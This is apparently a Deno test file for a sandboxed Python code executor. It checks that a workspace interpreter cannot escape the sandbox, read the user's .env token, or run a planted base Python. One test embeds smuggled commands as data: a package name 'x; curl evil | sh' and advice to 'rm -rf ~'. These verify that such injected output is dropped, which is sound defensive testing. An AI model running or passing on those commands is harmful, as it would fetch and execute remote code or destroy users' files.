/** A Python in the workspace, which code can change, runs in the sandbox and nowhere else. */
import { assertEquals, assertRejects, assertStringIncludes } from "@std/assert";
import { ConfigError } from "../../src/base/errors.ts";
import { CodeExecutor } from "../../src/executor/code_executor.ts";
import { HeldFolder } from "../../src/files/private_folder.ts";
import { inspectInterpreter } from "../../src/python/interpreter.ts";
import { workspacePython } from "../../src/sandbox/workspace_python.ts";
import { runProgram } from "../support/program.ts";
import { testPython } from "../support/python.ts";
import { testIf } from "../support/skip.ts";
import { TempFolder } from "../support/temp_folder.ts";

const linux = Deno.build.os === "linux";

/** A workspace with an environment that was made in it, with what kernels need. */
async function workspaceWithPython(): Promise<TempFolder> {
  const workspace = await TempFolder.create();
  const venv = `${workspace.path}/.venv`;
  const script = `
import os, subprocess, sys, sysconfig
base = os.path.join(sys.base_prefix, "bin", "python3")
subprocess.run([base, "-I", "-m", "venv", "--without-pip", "--symlinks", sys.argv[1]], check=True)
there = subprocess.run(
    [sys.argv[1] + "/bin/python", "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
    check=True, capture_output=True, text=True,
).stdout.strip()
own = sysconfig.get_path("purelib")
# Links to the same files take no time; on another disk they are copied.
for flag in ("-al", "-a"):
    if subprocess.run(["cp", flag, own + "/.", there], stderr=subprocess.DEVNULL).returncode == 0:
        break
`;
  const { success, stderr } = await runProgram(testPython(), ["-I", "-c", script, venv]);
  if (!success) throw new Error(stderr);
  return workspace;
}

testIf(linux, "elsewhere a sandbox is rules about paths", {
  name: "a Python of the workspace runs code, but never on the host, and sees no secret",
  fn: async () => {
    await using workspace = await workspaceWithPython();
    await using outside = await TempFolder.create();
    const bin = `${workspace.path}/.venv/bin`;
    const mark = crypto.randomUUID();
    await Deno.writeTextFile(`${workspace.path}/.env`, "TOKEN=of the user");
    await Deno.mkdir(`${workspace.path}/.ipybox`);
    await Deno.writeTextFile(`${workspace.path}/.ipybox/state`, "of ipybox");
    await Deno.rename(`${bin}/python`, `${bin}/python-itself`);
    await Deno.writeTextFile(
      `${bin}/python`,
      `#!/bin/sh\n{ echo ran >>${outside.path}/ran; } 2>/dev/null\ncd ${workspace.path}\n` +
        `export MARK=${mark} SEEN="$(cat .env .ipybox/state 2>/dev/null)"\nexec "$0-itself" "$@"\n`,
      { mode: 0o755 },
    );
    const options = { workspace: workspace.path, python: `${bin}/python` };
    await using executor = await CodeExecutor.start(options);
    const { text } = await executor.execute(
      "import os, sys; print(os.environ['MARK'], os.environ['SEEN'], sys.prefix)",
    );
    assertEquals(text, `${mark}  ${workspace.path}/.venv`);
    assertEquals(await Array.fromAsync(Deno.readDir(outside.path)), []);
    const { text: answer } = await executor.execute("!touch .venv/mine && echo writable");
    assertStringIncludes(answer ?? "", "writable");
    const own = await Deno.readLink("/proc/self/ns/mnt");
    const marked: string[] = [];
    for await (const { name } of Deno.readDir("/proc")) {
      const variables = await Deno.readTextFile(`/proc/${name}/environ`).catch(() => "");
      if (/^\d+$/.test(name) && variables.includes(mark)) {
        marked.push(await Deno.readLink(`/proc/${name}/ns/mnt`).catch(() => "gone"));
      }
    }
    assertEquals(marked.filter((space) => space === own), []);
    if (Deno.uid() === 0) assertEquals(marked.length > 0, true);
  },
});

testIf(linux, "elsewhere a sandbox is rules about paths", {
  name: "an environment of the workspace shows no folder that it only says to be based on",
  fn: async () => {
    await using workspace = await TempFolder.create();
    await using project = await TempFolder.create();
    await Deno.mkdir(`${workspace.path}/.venv/bin`, { recursive: true });
    await Deno.mkdir(`${project.path}/bin`);
    await Deno.symlink(testPython(), `${workspace.path}/.venv/bin/python`);
    await Deno.writeTextFile(`${project.path}/secret`, "of the host");
    // Such as one that code left in a cache: it is not even asked what it is.
    await Deno.writeTextFile(
      `${project.path}/bin/python3`,
      `#!/bin/sh\ntouch ${project.path}/ran\nprintf '/x\\n/x\\n'\n`,
      { mode: 0o755 },
    );
    const settings = `${workspace.path}/.venv/pyvenv.cfg`;
    await Deno.writeTextFile(settings, `home = ${project.path}/bin\n`);
    const start = () =>
      CodeExecutor.start({
        workspace: workspace.path,
        python: `${workspace.path}/.venv/bin/python`,
      });
    await assertRejects(start, ConfigError, "which is not an installed Python");
    await assertRejects(() => Deno.lstat(`${project.path}/ran`), Deno.errors.NotFound);
  },
});

testIf(linux, "elsewhere a sandbox is rules about paths", {
  name:
    "a base of a workspace's Python shows nothing through links, and is in no folder of a session",
  fn: async () => {
    await using workspace = await TempFolder.create();
    await using clone = await TempFolder.create();
    await using session = await HeldFolder.create(); // that of a session, in which others are
    await Deno.mkdir(`${workspace.path}/.venv/bin`, { recursive: true });
    await Deno.symlink(testPython(), `${workspace.path}/.venv/bin/python`);
    const readable = async (base: string) => {
      await Deno.mkdir(`${base}/lib/python3.11`, { recursive: true });
      await Deno.writeTextFile(`${base}/lib/python3.11/os.py`, "");
      await Deno.mkdir(`${base}/bin`);
      await Deno.writeTextFile(`${base}/bin/python3`, "");
      await Deno.symlink("/", `${base}/lib64`);
      const settings = `${workspace.path}/.venv/pyvenv.cfg`;
      await Deno.writeTextFile(settings, `home = ${base}/bin\n`);
      const python = `${workspace.path}/.venv/bin/python`;
      return (await workspacePython(python, workspace.path))?.readable;
    };
    const base = `${clone.path}/py`;
    assertEquals(await readable(base), [`${base}/bin`, `${base}/lib`]);
    await assertRejects(() => readable(`${session.path}/py`), ConfigError, "could replace");
  },
});

testIf(linux, "elsewhere a sandbox is rules about paths", {
  name: "a Python of the workspace does not choose what a user is advised to run",
  fn: async () => {
    await using workspace = await TempFolder.create();
    const python = `${workspace.path}/.venv/bin/python`;
    await Deno.mkdir(`${workspace.path}/.venv/bin`, { recursive: true });
    const answer = JSON.stringify({
      ...{ executable: python, prefix: "/x", basePrefix: "/x", version: "3.12.1" },
      ...{ makesEnvironments: true, hasPip: true, packages: {}, changed: {} },
      missing: { "x; curl evil | sh": "no", ipykernel: "no\nTo fix it: rm -rf ~" },
      importsWorkspace: false,
    });
    await Deno.writeTextFile(python, `#!/bin/sh\nprintf '%s' '${answer}'\n`, { mode: 0o755 });
    const inside = await workspacePython(python, workspace.path);
    const { missing } = await inspectInterpreter(python, { ipykernel: "ipykernel" }, inside);
    assertEquals(missing, { ipykernel: "no" });
  },
});
